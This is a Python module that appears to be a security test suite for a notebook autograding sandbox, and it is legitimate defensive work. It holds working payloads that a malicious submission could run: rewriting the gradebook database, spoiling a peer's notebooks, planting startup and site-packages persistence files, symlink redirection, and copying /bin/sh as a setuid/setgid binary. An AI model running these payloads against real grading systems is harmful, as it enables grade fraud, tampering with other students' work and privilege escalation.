"""Write what a submission must not touch: grades, peers, settings, programs."""

from ..bank import attack

_TRY = """
import os, glob
def put(path, text, mode="a"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(path, error.strerror)
"""


@attack()
def write_the_gradebook():
    """Gives itself full marks, and everybody else none, in the gradebook."""
    return """
import sqlite3
with sqlite3.connect("$ROOT/gradebook.db", timeout=5) as book:
    book.execute("update grade set auto_score = 100, manual_score = 100, extra_credit = 50")
    book.execute("update grade_cells set max_score = 1")
    book.execute("insert into student (id, first_name) values ('$MARK', 'pwned')")
"""


@attack()
def write_a_peer():
    """Spoils another student's submission."""
    return (
        _TRY
        + """
for name in ("1-scores-and-context", "2-queries-and-masks"):
    put(f"$PEER/{name}.ipynb", "$MARK spoiled", "w")
put("$PEER/$MARK.txt", "x")
"""
    )


@attack()
def write_the_configuration():
    """Adds a line to the course's configuration."""
    return (
        _TRY
        + """
put("$ROOT/nbgrader_config.py", "\\n# $MARK\\nc.ClearSolutions.code_stub = {'python': '$MARK'}\\n")
put("$ROOT/pyproject.toml", "\\n# $MARK\\n")
put("/etc/jupyter/jupyter_config.py", "# $MARK\\n")
"""
    )


@attack()
def write_start_up_files():
    """Leaves code that runs whenever a shell, a kernel or Python starts."""
    return (
        _TRY
        + """
home = os.path.expanduser("~")
for home in {home, "/root", "/home/" + os.environ.get("USER", "x"), os.environ.get("HOME", "/")}:
    put(f"{home}/.ipython/profile_default/startup/$MARK.py", "# $MARK")
    put(f"{home}/.jupyter/jupyter_server_config.py", "# $MARK")
    put(f"{home}/.local/lib/python3.11/site-packages/usercustomize.py", "# $MARK")
    put(f"{home}/.config/$MARK", "x")
"""
    )


@attack()
def write_site_packages():
    """Leaves a module and a .pth file in site-packages and the standard library."""
    return (
        _TRY
        + """
import numpy, os as module
for folder in {os.path.dirname(os.path.dirname(numpy.__file__)), os.path.dirname(module.__file__)}:
    put(f"{folder}/$MARK.pth", "import os")
    put(f"{folder}/sitecustomize.py", "# $MARK")
    put(f"{folder}/$MARK.py", "x")
"""
    )


@attack()
def write_the_grader():
    """Changes the grader's code and the release for the students who come after."""
    return (
        _TRY
        + """
for path in ("autograder/$MARK.py", "release/w07-h2-attention/$MARK.txt", "source/$MARK.txt", "attention_lab.py"):
    put("$ROOT/" + path, "# $MARK")
"""
    )


@attack()
def write_the_results():
    """Writes its own results and graded notebook."""
    return (
        _TRY
        + """
put("$ROOT/autograded/w07-h2-attention.results.json", '{"$MARK": 1}', "w")
put("$ROOT/autograded/$MARK/w07-h2-attention/1-scores-and-context.ipynb", "{}", "w")
put("$ROOT/feedback/$MARK/index.html", "$MARK")
put("$ROOT/grades-$MARK.csv", "x")
"""
    )


@attack()
def write_shared_folders():
    """Leaves files in the folders that all processes share."""
    return (
        _TRY
        + """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/lock", "/dev", "/"):
    put(f"{folder}/$MARK", "x")
os.mkfifo("/tmp/$MARK-fifo")
"""
    )


@attack()
def write_through_a_symlink():
    """Replaces its own working files by links to what it wants written."""
    return (
        _TRY
        + """
import shutil
for target in ("$ROOT/gradebook.db", "$ROOT/nbgrader_config.py", "$PEER/1-scores-and-context.ipynb"):
    for name in ("artifacts/w07-h2-attention.json", "1-scores-and-context.ipynb", "out"):
        try:
            os.makedirs("artifacts", exist_ok=True)
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
        except OSError as error:
            print(error)
        put(name, "$MARK")
"""
    )


@attack()
def change_permissions():
    """Opens the course to everybody, and makes a program that keeps its rights."""
    return """
import os, shutil, stat
for path in ("$ROOT", "$ROOT/gradebook.db", "$PEER"):
    try:
        os.chmod(path, 0o777)
        print("$WIN opened", path)
    except OSError as error:
        print(error.strerror)
for folder in ("/tmp", "."):
    try:
        shutil.copy("/bin/sh", f"{folder}/$MARK-sh")
        os.chmod(f"{folder}/$MARK-sh", 0o6755)
    except OSError as error:
        print(error.strerror)
"""
